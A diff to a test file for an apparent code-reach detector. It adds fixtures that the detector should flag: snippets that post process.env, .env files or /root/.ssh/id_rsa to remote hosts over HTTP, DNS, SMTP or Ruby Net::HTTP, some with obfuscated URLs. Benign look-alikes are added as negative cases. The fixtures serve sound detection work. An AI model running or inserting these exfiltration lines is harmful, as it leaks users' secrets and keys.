@@ -90,6 +90,34 @@ describe('code that reaches what its text does not show', () => {
     ['an interactive interpreter fed text', 'python', 'code.InteractiveInterpreter().runsource(src)'],
     ['an unsafe YAML load', 'python', 'yaml.load(open("x.yml"), Loader=yaml.UnsafeLoader)'],
     ['a worker evaluating a string', 'node', 'new Worker(src, { eval: true });'],
+    [
+      'the environment posted to a decoded URL',
+      'node',
+      "await fetch(atob(u), { method: 'POST', body: JSON.stringify(process.env) });",
+    ],
+    [
+      'the environment in a DNS name',
+      'node',
+      'dns.resolve(Buffer.from(JSON.stringify(process.env)).toString("hex") + ".x.example", cb);',
+    ],
+    ['the environment by mail', 'python', 's = smtplib.SMTP(host)\ns.sendmail(a, [b], str(os.environ))'],
+    [
+      'the environment to a URL from a variable',
+      'python',
+      'urllib.request.urlopen(url, data=repr(dict(os.environ)).encode())',
+    ],
+    [
+      'the environment by https.request',
+      'node',
+      'const r = https.request({ host: h, method: "POST" }); r.end(JSON.stringify(process.env));',
+    ],
+    [
+      '.env posted to a joined URL',
+      'node',
+      'const u = parts.join("");\nfetch(u, { method: "POST", body: require("fs").readFileSync(".env") });',
+    ],
+    ['a private key posted', 'python', 'requests.post(u, data=open("/root/.ssh/id_rsa").read())'],
+    ['Ruby sending ENV', 'ruby', 'Net::HTTP.post(URI(u), ENV.to_h.to_json)'],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeDefined();
   });
@@ -137,6 +165,22 @@ describe('ordinary code is not flagged', () => {
     ['a socket server with no shell', 'python', 's = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()'],
     ['a safe YAML load', 'python', 'yaml.safe_load(open("x.yml"))'],
     ['a worker from a file', 'node', 'new Worker(new URL("./w.js", import.meta.url));'],
+    [
+      'one variable read beside a request',
+      'node',
+      'const key = process.env.API_KEY;\nawait fetch(`${base}/v1`, { headers: { authorization: key } });',
+    ],
+    [
+      'a child environment beside a request',
+      'node',
+      'const env = { ...process.env, CI: "1" };\nawait fetch(url, { headers: { "x-ci": env.CI } });',
+    ],
+    [
+      'an example env file read beside a request',
+      'python',
+      'tpl = open(".env.example").read()\nrequests.get(u)',
+    ],
+    ['the environment printed, no connection', 'python', 'print(dict(os.environ))'],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeUndefined();
   });
